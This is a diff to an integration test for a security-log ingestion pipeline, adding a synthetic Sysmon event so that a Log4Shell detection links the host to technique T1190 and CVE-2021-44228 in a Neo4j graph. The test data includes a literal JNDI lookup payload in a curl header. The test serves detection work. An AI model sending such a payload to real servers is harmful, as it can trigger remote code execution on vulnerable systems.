@@ -623,7 +623,7 @@ describe("detections linked to KEV, object versions and late metadata (hand-writ
     expect(quarantined.map((l) => JSON.parse(l).text)).toContain('{"Hostname": "H\u0000');
   });
 
-  it("merges (Host)-[:OBSERVED]->(Technique) and the host's addresses into the shared IPAddress nodes", async () => {
+  it("merges (Host)-[:OBSERVED]->(Technique|Vulnerability) and the host's addresses into the shared nodes", async () => {
     const host = `seclog-${box.suffix}`;
     // An address of the documentation range no other test uses, unique to this run.
     const ip = `198.51.100.${(Number.parseInt(box.suffix, 16) % 250) + 1}`;
@@ -637,9 +637,19 @@ describe("detections linked to KEV, object versions and late metadata (hand-writ
       sysmonLine(host, 1, lsass),
       sysmonLine(host, 2, { EventID: 3, SourceIp: "10.9.8.7", DestinationIp: ip, DestinationPort: 443 }),
       sysmonLine(host, 3, { EventID: 3, SourceIp: "127.0.0.1", DestinationIp: "0.0.0.0" }),
+      sysmonLine(host, 4, {
+        EventID: 1,
+        // biome-ignore lint/suspicious/noTemplateCurlyInString: a literal JNDI lookup
+        CommandLine: "curl -H 'X-Api-Version: ${jndi:ldap://x/a}' http://app",
+      }),
     ].join("\n");
     const ref = await box.put("raw-logs/graph/g.json", body);
     const deps = box.deps({ graph: neo4jSecurityGraph(c.neo4j) });
+    // The CVE's node is shared with KEV and other tests: made here only if no one had made it.
+    const cve = "CVE-2021-44228";
+    const { records: before } = await c.neo4j.executeQuery("MATCH (v:Vulnerability {cve: $cve}) RETURN v", {
+      cve,
+    });
     try {
       for (let i = 0; i < 2; i += 1) await ingestLogObject(deps, ref);
       // Twice delivered, merged once: the second delivery is a duplicate and MERGE is idempotent anyway.
@@ -647,16 +657,25 @@ describe("detections linked to KEV, object versions and late metadata (hand-writ
         `MATCH (h:Host {name: $host})
          OPTIONAL MATCH (h)-[o:OBSERVED]->(t:Technique)
          WITH h, collect(t.id + ' ' + o.rules[0]) AS techniques
+         OPTIONAL MATCH (h)-[o:OBSERVED]->(v:Vulnerability)
+         WITH h, techniques, collect(v.cve + ' ' + o.rules[0] + ' ' + toString(o.first_seen = o.last_seen)) AS cves
          OPTIONAL MATCH (h)-[:COMMUNICATED_WITH]->(a:IPAddress)
-         RETURN techniques, collect(a.value) AS addresses`,
+         RETURN techniques, cves, collect(a.value) AS addresses`,
         { host },
       );
-      expect(records[0]?.get("techniques")).toEqual(["T1003.001 lsass-memory-access"]);
+      expect([...((records[0]?.get("techniques") as string[] | undefined) ?? [])].sort()).toEqual([
+        "T1003.001 lsass-memory-access",
+        "T1190 log4shell-jndi-lookup",
+      ]);
+      expect(records[0]?.get("cves")).toEqual([`${cve} log4shell-jndi-lookup true`]);
       expect([...((records[0]?.get("addresses") as string[] | undefined) ?? [])].sort()).toEqual(
         ["10.9.8.7", ip].sort(),
       );
     } finally {
       await c.neo4j.executeQuery("MATCH (h:Host {name: $host}) DETACH DELETE h", { host });
+      if (before.length === 0) {
+        await c.neo4j.executeQuery("MATCH (v:Vulnerability {cve: $cve}) WHERE NOT (v)--() DELETE v", { cve });
+      }
       // The addresses were made for this test alone: gone once nothing points at them.
       await c.neo4j.executeQuery("MATCH (a:IPAddress) WHERE a.value IN $ips AND NOT (a)--() DELETE a", {
         ips: ["10.9.8.7", ip],
